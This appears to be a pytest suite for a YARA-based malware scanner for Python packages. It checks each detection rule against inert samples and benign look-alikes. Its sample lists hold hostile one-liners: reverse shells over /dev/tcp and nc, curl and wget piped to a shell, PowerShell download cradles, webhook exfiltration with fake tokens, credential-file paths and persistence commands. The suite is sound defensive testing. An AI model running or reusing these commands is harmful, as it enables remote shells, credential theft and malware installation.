"""The YARA-X byte-pattern engine: every rule catches an inert sample and stays
quiet on a benign look-alike; context and file kind scale severity."""

from __future__ import annotations

import re
import threading

import pytest

from pycustoms.analyzers.code import yara_engine
from pycustoms.analyzers.code.context import ExecContext
from pycustoms.analyzers.code.yara_engine import RULES, compile_rules, rule_sources, scan_bytes
from pycustoms.types import Capability, Severity

M = ExecContext.MODULE

# Fake secrets assembled at import so no complete token sits in the source.
# Fake secrets shaped like live ones; placeholders (XXXX, 0000) are tested below.
_DISCORD = "https://discord.com/api/webhooks/" + "823491057361928450" + "/" + "aB3_-" * 13
_SLACK = "https://hooks.slack.com/services/" + "T04B7QK2N/B05C8RL3P/" + "q7Wm2Zr9Kd4Lx8Vb1Nc6Hs3J"
_TELEGRAM = "https://api.telegram.org/bot" + "6839201574:" + "AAGk" + "Fq8Lz2Wx" * 4
_B64 = "QUJD" * 150


def rules_hit(data: str | bytes, context: ExecContext = M, path: str = "pkg/mod.py") -> set[str]:
    raw = data.encode() if isinstance(data, str) else data
    return {f.rule for f in scan_bytes(path, raw, context).findings}


POSITIVES: list[tuple[str, str]] = [
    ("code/webhook-exfil-endpoint", f'requests.post("{_DISCORD}", json=data)'),
    ("code/webhook-exfil-endpoint", f"HOOK = '{_SLACK}'"),
    ("code/webhook-exfil-endpoint", f"urlopen('{_TELEGRAM}/sendDocument')"),
    (
        "code/webhook-exfil-endpoint",
        "TOKEN = '" + _TELEGRAM.rsplit("bot", 1)[1] + "'\n"
        "url = f'https://api.telegram.org/bot{TOKEN}/sendMessage'",
    ),
    ("code/webhook-api-reference", "base = 'https://discordapp.com/api/webhooks/' + hook_id"),
    ("code/webhook-api-reference", "API = 'https://api.telegram.org/bot' + token"),
    ("code/request-catcher-endpoint", "socket.gethostbyname(h + '.abc.oastify.com')"),
    ("code/request-catcher-endpoint", "u = 'http://x1y2z3.burpcollaborator.net/p'"),
    ("code/request-catcher-endpoint", "d = 'cq8a7b6c5d4e3f2g1h0i.oast.fun'"),
    ("code/request-catcher-endpoint", "d = 'c1e2r3t4y5u6i7o8p9.interact.sh'"),
    ("code/request-catcher-endpoint", "post('https://eo1a2b3c4d5e6f.m.pipedream.net', d)"),
    ("code/request-catcher-endpoint", "URL = 'https://webhook.site/0f1e2d3c-aaaa-bbbb-cccc-1234'"),
    ("code/request-catcher-endpoint", "ping(hostname + '.abcd.dnslog.cn')"),
    ("code/tunnel-endpoint", "C2 = 'https://a1b2c3d4e5.ngrok-free.app/upload'"),
    ("code/tunnel-endpoint", "C2 = 'tcp://4.tcp.eu.ngrok.io:13337'"),
    ("code/tunnel-endpoint", "C2 = 'https://blue-sky-fish.trycloudflare.com'"),
    ("code/tunnel-endpoint", "C2 = 'https://abcd.loca.lt/x'"),
    ("code/paste-site-endpoint", "exec(get('https://pastebin.com/raw/AbCdEf12').text)"),
    ("code/paste-site-endpoint", "curl -F 'file=@x' https://0x0.st"),
    ("code/paste-site-endpoint", "upload('https://store4.gofile.io/uploadFile')"),
    ("code/raw-ip-url", "requests.post('http://45.13.77.201:8080/collect', data=env)"),
    ("code/raw-ip-url", "BASE = 'http://185.62.1.9/stage2'"),
    ("code/cloud-metadata-endpoint", "get('http://169.254.169.254/latest/meta-data/iam/')"),
    ("code/cloud-metadata-endpoint", "host = 'metadata.google.internal'"),
    (
        "code/powershell-download-cradle",
        "IEX (New-Object Net.WebClient).DownloadString('http://e.invalid/a.ps1')",
    ),
    ("code/powershell-download-cradle", "$c = New-Object System.Net.Sockets.TCPClient('h',4)"),
    ("code/powershell-hidden-encoded", "powershell.exe -NoP -EncodedCommand " + _B64[:60]),
    ("code/powershell-hidden-encoded", "powershell -w hidden -c calc"),
    ("code/lolbin-download", "certutil.exe -urlcache -split -f http://e.invalid/a a.exe"),
    ("code/lolbin-download", "bitsadmin /transfer job http://e.invalid/a C:\\a.exe"),
    ("code/lolbin-download", "mshta http://e.invalid/a.hta"),
    ("code/shell-download-exec", "os.system('curl -s http://e.invalid/x | sh')"),
    ("code/shell-download-exec", "wget -qO- http://e.invalid/i | sudo bash"),
    ("code/shell-download-exec", "wget http://e.invalid/m -O /tmp/m && chmod +x /tmp/m"),
    ("code/shell-download-exec", "irm https://e.invalid/i.ps1 | iex"),
    ("code/reverse-shell-command", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"),
    ("code/reverse-shell-command", "subprocess.call('nc 10.1.1.1 9001 -e /bin/sh', shell=True)"),
    (
        "code/reverse-shell-command",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 1 >/tmp/f",
    ),
    ("code/reverse-shell-command", 'os.dup2(s.fileno(), 0); pty.spawn("/bin/bash")'),
    ("code/credential-path", "p = os.path.expanduser('~/.aws/credentials')"),
    ("code/credential-path", "open(home + '/.ssh/id_rsa').read()"),
    (
        "code/credential-file-sweep",
        "T = ['.aws/credentials', '.ssh/id_ed25519', '.pypirc', '.npmrc', '.git-credentials']",
    ),
    (
        "code/browser-credential-store",
        "k = json.load(open(p + '/Local State'))['os_crypt']['encrypted_key']",
    ),
    ("code/browser-credential-store", "db = base + r'\\User Data\\Default\\Login Data'"),
    (
        "code/stealer-markers",
        r"re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', open(p + '\\Local Storage\\leveldb'))",
    ),
    (
        "code/stealer-markers",
        "W = {'metamask': 'nkbihfbeogaeaoehlefnkodbefgpgknn', 'ex': 'Exodus/exodus.wallet'}",
    ),
    ("code/persistence-marker", "os.system('(crontab -l; echo \"@reboot /tmp/x\") | crontab -')"),
    ("code/persistence-marker", "subprocess.run(['systemctl', '--user', 'enable', 'x'])"),
    ("code/persistence-marker", r"key = r'Software\Microsoft\Windows\CurrentVersion\Run'"),
    ("code/persistence-marker", "schtasks /create /sc onlogon /tn upd /tr C:\\x.exe"),
    ("code/pyarmor-obfuscated", "from pyarmor_runtime_000000 import __pyarmor__"),
    ("code/pyarmor-obfuscated", "from pytransform import pyarmor_runtime\npyarmor_runtime()"),
    (
        "code/obfuscator-prologue",
        "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))",
    ),
    ("code/obfuscator-prologue", "exec((_)(b'=AbCd'))"),
    ("code/obfuscator-prologue", "exec(marshal.loads(zlib.decompress(b)))"),
    ("code/exec-encoded-blob", f"exec(base64.b64decode('{_B64}'))"),
    ("code/exec-encoded-blob", f"eval(compile(zlib.decompress(bytes.fromhex('{'ab' * 300}'))))"),
]


@pytest.mark.parametrize(("rule", "sample"), POSITIVES)
def test_rule_catches_sample(rule: str, sample: str) -> None:
    assert rule in rules_hit("import os\n" + sample + "\n")


NEGATIVES: list[tuple[str, str]] = [
    # Documentation placeholders and a look-alike host are not live webhooks.
    (
        "code/webhook-exfil-endpoint",
        "'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'",
    ),
    (
        "code/webhook-exfil-endpoint",
        "'https://nothooks.slack.com/services/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'",
    ),
    ("code/webhook-exfil-endpoint", "'https://api.telegram.org/bot1234567890:" + "A" * 35 + "'"),
    ("code/webhook-exfil-endpoint", "See https://discord.com/developers/docs for webhooks."),
    # A bot token with no call of the bot API in the file; a placeholder token.
    ("code/webhook-exfil-endpoint", "TOKEN = '" + _TELEGRAM.rsplit("bot", 1)[1] + "'"),
    (
        "code/webhook-exfil-endpoint",
        "TOKEN = '1234567890:" + "A" * 35 + "'\nAPI = 'https://api.telegram.org/bot'",
    ),
    ("code/webhook-api-reference", "DISCORD_URL = 'https://discord.com/invite/abc'"),
    ("code/request-catcher-endpoint", "We use https://webhook.site in the tutorial."),
    ("code/request-catcher-endpoint", "bash interact.sh --help"),
    ("code/tunnel-endpoint", "Install ngrok from ngrok.com; see ngrok.io docs."),
    (
        "code/paste-site-endpoint",
        "profile.io and myfile.io are not file.io; transfer.sh is a script",
    ),
    ("code/paste-site-endpoint", "Paste the output to pastebin.com and link it."),
    ("code/raw-ip-url", "requests.get('http://127.0.0.1:8000/health')"),
    ("code/raw-ip-url", "server = 'http://192.168.1.10:9200'; other = 'http://10.0.0.5/'"),
    (
        "code/raw-ip-url",
        "dns = 'http://8.8.8.8'; doc = 'http://192.0.2.1/'; bad = 'http://999.1.1.1'",
    ),
    ("code/raw-ip-url", "version = '1.2.3.4567'"),
    ("code/cloud-metadata-endpoint", "link_local = '169.254.0.1'"),
    ("code/powershell-download-cradle", "client.download_file(bucket, key, dest)"),
    ("code/powershell-hidden-encoded", "powershell -Command Get-ChildItem"),
    ("code/powershell-hidden-encoded", "python -e base64 -w 80 --hidden"),
    ("code/lolbin-download", "certutil -hashfile setup.exe SHA256"),
    ("code/shell-download-exec", "curl -o out.tar.gz https://e.invalid/a.tgz && tar xf out.tar.gz"),
    ("code/shell-download-exec", "curl https://e.invalid/a | python -m json.tool"),
    (
        "code/reverse-shell-command",
        "cmd = ['bash', '-c', '[ -e /bin/bash ] && /bin/bash || /bin/sh']",
    ),
    ("code/reverse-shell-command", "os.path.exists('/dev/tcp')"),
    ("code/credential-path", "netrc.netrc()  # honour the user's .netrc"),
    ("code/credential-file-sweep", "cfg = '~/.aws/credentials'; pip_conf = '.pypirc'"),
    ("code/browser-credential-store", "state = 'Local State'; cookies = load_cookies()"),
    ("code/stealer-markers", "wallet = Electrum()  # a wallet library"),
    ("code/persistence-marker", "# run me with crontab -e"),
    ("code/persistence-marker", "RUN_KEY = 'CurrentVersionRunner'"),
    ("code/pyarmor-obfuscated", "# we considered pyarmor but chose not to obfuscate"),
    ("code/obfuscator-prologue", "key = lambda item: item[1]\nexec(code, namespace)"),
    ("code/exec-encoded-blob", "exec(base64.b64decode(payload))"),
    ("code/exec-encoded-blob", f"ICON = base64.b64decode('{_B64}')"),
]


@pytest.mark.parametrize(("rule", "sample"), NEGATIVES)
def test_rule_ignores_lookalike(rule: str, sample: str) -> None:
    assert rule not in rules_hit(sample + "\n")


def test_every_yara_rule_declares_a_known_id_and_severity() -> None:
    declared = {r.id for r in RULES}
    used: set[str] = set()
    for text in rule_sources().values():
        for rule_id in re.findall(r'id = "([^"]+)"', text):
            assert rule_id in declared, rule_id
            used.add(rule_id)
        for severity in re.findall(r'severity = "([^"]+)"', text):
            Severity.parse(severity)
    engine_only = {yara_engine.COMBINATION_RULE, "code/byte-scan-incomplete"}
    assert declared - engine_only == used
    assert all(r.id.startswith("code/") for r in RULES)


def test_rules_compile_without_warnings() -> None:
    _, warnings = compile_rules()
    assert warnings == []


def test_bad_rules_raise() -> None:
    with pytest.raises(yara_engine.YaraRulesError):
        compile_rules({"bad.yar": "rule x { condition: nope("})


def test_line_number_and_snippet() -> None:
    data = b"a = 1\n\nb = 2\nc = 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1'\nd = 4\n"
    (finding,) = scan_bytes("m.py", data, M).findings
    assert finding.line == 4
    assert finding.snippet == "c = 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1'"
    assert finding.file == "m.py"


def test_snippet_of_a_long_line_keeps_the_match() -> None:
    data = ("x" * 5000 + " powershell -w hidden -c calc " + "y" * 5000).encode()
    (finding,) = scan_bytes("a.js", data, ExecContext.DATA).findings
    assert finding.line == 1
    assert finding.snippet is not None
    assert len(finding.snippet) <= yara_engine.SNIPPET_CHARS
    assert "powershell" in finding.snippet


def test_binary_data_is_scanned() -> None:
    data = b"\x7fELF\x02\x01\x00" + bytes(range(256)) * 40 + b"\xff\n\x00" + _DISCORD.encode()
    data += b"\x00\xfe" * 100
    (finding,) = scan_bytes("pkg/_native.so", data, ExecContext.DATA).findings
    assert finding.rule == "code/webhook-exfil-endpoint"
    assert finding.line == 42  # 40 newlines in the byte ramp, one after it
    assert finding.snippet is not None
    assert "aB3_-aB3_-" in finding.snippet
    assert "\x00" not in finding.snippet
    # A string inside a compiled library is weak evidence and no capability.
    assert finding.severity <= Severity.LOW
    assert finding.confidence <= 0.5
    assert scan_bytes("pkg/_native.so", data, ExecContext.DATA).capabilities == frozenset()


def test_empty_and_undecodable_data() -> None:
    assert scan_bytes("e.py", b"", M).findings == ()
    assert scan_bytes("b.bin", bytes(range(256)) * 100, ExecContext.DATA).findings == ()


@pytest.mark.parametrize(
    ("path", "context", "severity"),
    [
        ("setup.py", ExecContext.INSTALL, Severity.CRITICAL),
        ("evil.pth", ExecContext.STARTUP, Severity.CRITICAL),
        ("pkg/__init__.py", ExecContext.IMPORT, Severity.HIGH),
        ("pkg/tests/test_x.py", ExecContext.TEST, Severity.MEDIUM),
        ("pkg/run.sh", ExecContext.DATA, Severity.HIGH),
        ("pkg/data.json", ExecContext.DATA, Severity.MEDIUM),
        ("README.md", ExecContext.DATA, Severity.LOW),
        ("pkg-1.0.dist-info/METADATA", ExecContext.DATA, Severity.LOW),
        ("docs/guide.md", ExecContext.DATA, Severity.INFO),
    ],
)
def test_context_scales_severity(path: str, context: ExecContext, severity: Severity) -> None:
    data = f"import requests\nrequests.post('{_DISCORD}', data=x)\n".encode()
    (finding,) = scan_bytes(path, data, context).findings
    assert finding.severity == severity


def test_docs_get_low_confidence_and_no_capability() -> None:
    report = scan_bytes("README.md", b"curl -LsSf https://e.invalid/install.sh | sh\n", M.DATA)
    (finding,) = report.findings
    assert finding.confidence < 0.6
    assert report.capabilities == frozenset()


def test_capabilities_reported_for_code() -> None:
    report = scan_bytes("pkg/m.py", b"x = '~/.aws/credentials'\n", M)
    assert report.capabilities == frozenset({Capability.CREDENTIAL_READ})


def test_credentials_with_exfil_endpoint_combine() -> None:
    data = f"p = open(home + '/.ssh/id_rsa').read()\nrequests.post('{_DISCORD}', data=p)\n"
    findings = {f.rule: f for f in scan_bytes("pkg/__init__.py", data.encode(), M.IMPORT).findings}
    combo = findings[yara_engine.COMBINATION_RULE]
    assert combo.severity == Severity.CRITICAL
    assert combo.line == 2


def test_combination_not_in_tests_or_docs() -> None:
    data = f"BAD = ['~/.ssh/id_rsa', '{_DISCORD}']\n".encode()
    for path, context in (("tests/test_v.py", ExecContext.TEST), ("README.md", M.DATA)):
        hit = {f.rule for f in scan_bytes(path, data, context).findings}
        assert yara_engine.COMBINATION_RULE not in hit


def test_one_finding_per_rule_per_file() -> None:
    data = "\n".join([f"a = '{_DISCORD}'", f"b = '{_SLACK}'", f"c = '{_TELEGRAM}'"]).encode()
    findings = scan_bytes("m.py", data, M).findings
    assert [f.rule for f in findings] == ["code/webhook-exfil-endpoint"]
    assert findings[0].line == 1


def test_raw_ip_call_is_stronger_than_a_bare_mention() -> None:
    (call,) = scan_bytes("m.py", b"requests.post('http://45.13.77.201/x')", M).findings
    (bare,) = scan_bytes("m.py", b"# mirror: http://45.13.77.201/x", M).findings
    assert call.severity == Severity.MEDIUM
    assert bare.severity == Severity.LOW


def test_threads_share_compiled_rules() -> None:
    errors: list[BaseException] = []
    data = f"x = '{_DISCORD}'\n".encode() * 50

    def work() -> None:
        try:
            for _ in range(20):
                assert len(scan_bytes("m.py", data, M).findings) == 1
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
